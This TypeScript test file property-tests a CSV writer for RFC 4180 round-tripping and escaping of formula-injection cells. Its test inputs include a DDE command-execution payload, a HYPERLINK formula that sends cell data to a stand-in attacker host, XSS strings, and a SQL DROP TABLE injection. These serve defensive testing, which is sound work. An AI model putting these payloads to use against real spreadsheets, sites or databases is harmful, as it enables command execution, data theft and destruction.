// Property tests for the CSV writer: whatever text goes in (quotes, commas, CR/LF, formula starters,
// unicode, HTML and SQL injection strings), an RFC 4180 reader (csv-parse) gets back exactly the rows
// written, each text cell as written or with one leading quote when it would start a formula, and no
// cell a spreadsheet would evaluate.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { csvField, csvRecord, escapeFormula, toCsv, UTF8_BOM, type CsvCell } from './csv';

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

/** Strings that hostile data actually carries, mixed with arbitrary text. */
const hostile = fc.constantFrom(
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `'; DROP TABLE reviews; --`,
  '"quoted", with comma',
  'line one\r\nline two',
  'ünïcödé — 漢字 😀',
  '',
);
const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), hostile, fc.string({ maxLength: 40 }));
const cell: fc.Arbitrary<CsvCell> = fc.oneof(
  { weight: 4, arbitrary: text },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constantFrom(null, undefined) },
);

/** What a reader must get back for a cell. */
function expected(value: CsvCell): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return String(value);
  if (typeof value === 'boolean') return String(value);
  return FORMULA_STARTS.includes(value[0] ?? '') ? `'${value}` : value;
}

const readCsv = (csv: string): string[][] =>
  parse(csv, { bom: true, relax_column_count: false, skip_empty_lines: false }) as string[][];

describe('csv', () => {
  it('round-trips any table through an RFC 4180 reader, escaping only formula starters', () => {
    fc.assert(
      fc.property(
        fc
          .integer({ min: 1, max: 6 })
          .chain((width) =>
            fc.tuple(
              fc.array(fc.string({ minLength: 1, maxLength: 12 }), { minLength: width, maxLength: width }),
              fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 12 }),
            ),
          ),
        ([header, rows]) => {
          const csv = toCsv(header, rows);
          expect(csv.startsWith(UTF8_BOM)).toBe(true);
          const back = readCsv(csv);
          expect(back).toEqual([header.map(expected), ...rows.map((r) => r.map(expected))]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('never leaves a text cell that a spreadsheet would evaluate', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 8 }), (cells) => {
        const [row] = readCsv(csvRecord(cells));
        for (const value of row ?? []) expect(FORMULA_STARTS).not.toContain(value[0]);
      }),
      { numRuns: 500 },
    );
  });

  it('quotes exactly when RFC 4180 requires it and ends records in CRLF', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(`=cmd|' /C calc'!A0`)).toBe(`'=cmd|' /C calc'!A0`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField(-12.5)).toBe('-12.5'); // a number, not a formula
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvRecord(['a', 1, true])).toBe('a,1,true\r\n');
    expect(escapeFormula('@x')).toBe("'@x");
    expect(escapeFormula('x@')).toBe('x@');
  });
});
